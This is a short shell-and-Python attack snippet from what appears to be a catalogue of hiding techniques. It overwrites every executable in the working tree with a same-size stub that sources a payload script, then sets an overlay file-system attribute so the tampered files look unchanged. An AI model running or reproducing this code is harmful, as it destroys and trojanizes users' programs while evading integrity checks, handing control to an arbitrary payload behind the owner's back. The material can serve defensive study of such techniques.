# family: hiding
# what: Programs of the workspace are exchanged at their size, under a mark of the file system that says they are the same.
# user: any
sed "s,SCRATCH,$scratch," > "$scratch/marks.py" <<'END'
import os
for folder, _, names in os.walk("."):
    for name in names:
        path = os.path.join(folder, name)
        size = os.path.getsize(path)
        pay = b"#!/bin/sh\n. SCRATCH/pay.sh\n"
        if os.access(path, os.X_OK) and size > len(pay):
            open(path, "wb").write(pay + b"#" * (size - len(pay)))
            os.setxattr(path, "user.overlay.metacopy", b"")
END
python3 "$scratch/marks.py"
